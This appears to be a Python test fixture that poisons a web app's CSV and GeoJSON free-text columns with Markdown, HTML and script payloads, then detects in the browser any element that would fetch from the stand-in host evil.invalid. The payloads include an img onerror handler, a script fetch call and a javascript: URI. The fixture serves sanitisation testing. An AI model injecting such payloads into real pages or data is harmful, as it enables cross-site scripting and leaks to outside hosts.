"""A copy of data/ whose free-text values carry Markdown, HTML and script payloads that would fetch from outside."""
from __future__ import annotations

import json
from pathlib import Path

import pandas as pd

from lyg.contracts import TABLES, Table

EVIL = "evil.invalid"  # the host the payloads would fetch from
# in a browser: elements that would fetch from, or link to, that host (the app's own links may carry a payload as a
# filter value in their query string: that stays on this server)
FOUND = f"""() => Array.from(document.querySelectorAll('img, a, script, iframe, image, source'))
    .map(e => e.getAttribute('src') || e.getAttribute('href') || e.getAttribute('xlink:href') || '')
    .map(u => {{ try {{ return new URL(u, location.href); }} catch (err) {{ return null; }} }})
    .filter(u => u && (u.hostname.includes('{EVIL}') || u.protocol === 'javascript:'))
    .map(u => u.href)"""

PAYLOADS = (f"![x](http://{EVIL}/img.png)", f"<img src=http://{EVIL}/tag.gif onerror=alert(1)>", f"[链接](http://{EVIL}/link)",
            ":red[红字] **粗体** # 标题", f"<a href='http://{EVIL}/a'>点此</a><script>fetch('http://{EVIL}/js')</script>",
            f"javascript:fetch('http://{EVIL}/uri')", f"http://{EVIL}/autolink")


def free_text_columns(table: Table) -> list[str]:
    """VARCHAR columns that hold prose from a department: no accepted list, not a key, code or reference."""
    codes = set(table.key) | set(table.references)
    return [c.name for c in table.columns if c.type == "VARCHAR" and not c.accepted and c.name not in codes
            and not c.name.endswith(("_code", "_codes", "_id", "code", "month")) and c.name not in ("provenance", "source")]


def payload(i: int, original) -> str:
    return f"{PAYLOADS[i % len(PAYLOADS)]} {'' if original is None or pd.isna(original) else original}".strip()


def poison(data_dir: Path, rows: int = 3) -> dict[str, list[str]]:
    """Rewrite the first rows of every free-text column in place; returns the columns touched per file."""
    touched = {}
    for table in TABLES:
        columns = free_text_columns(table)
        csv, geojson = data_dir / f"{table.stem}.csv", data_dir / f"{table.stem}.geojson"
        if not columns:
            continue
        if csv.exists():
            frame = pd.read_csv(csv, dtype=str, keep_default_na=False)
            for n, col in enumerate(columns):
                for i in range(min(rows, len(frame))):
                    frame.loc[i, col] = payload(i + n, frame.loc[i, col])
            frame.to_csv(csv, index=False)
            touched[csv.name] = columns
        elif geojson.exists():
            doc = json.loads(geojson.read_text(encoding="utf-8"))
            for i, feature in enumerate(doc["features"][:rows]):
                for n, col in enumerate(columns):
                    if col in feature["properties"]:
                        feature["properties"][col] = payload(i + n, feature["properties"][col])
            geojson.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
            touched[geojson.name] = columns
    return touched
